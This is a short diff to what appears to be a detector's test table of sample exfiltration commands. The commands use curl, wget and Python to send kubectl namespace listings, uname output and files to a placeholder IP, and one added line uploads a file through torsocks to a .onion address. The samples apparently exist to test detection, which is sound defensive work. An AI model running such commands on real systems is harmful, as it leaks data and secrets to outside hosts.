@@ -6,6 +6,9 @@ indicatorTable(commandBareAddressTold, {
     'what a listing gives': script('kubectl get ns -o name | curl -s --data-binary @- http://203.0.113.7/c'),
     'a form': script('curl -sF f=@/tmp/o https://203.0.113.7:8443/up'),
     'a file': script('uname -a > /tmp/o; wget -q --post-file=/tmp/o 203.0.113.7/o'),
+    'a hidden service': script(
+      'torsocks curl -F f=@/uploads/a http://k3tz7ovylqkh3wnm5zvwqj6ux4bq2kzqd4oqf5w3e7uqz2ajd2yx6hyd.onion/up',
+    ),
     'from Python': runs('python3', '-c', 'import requests;requests.post("http://203.0.113.7/hit",json={"a":1})'),
     'a variable of the container, from Python': runs(
       'python3',
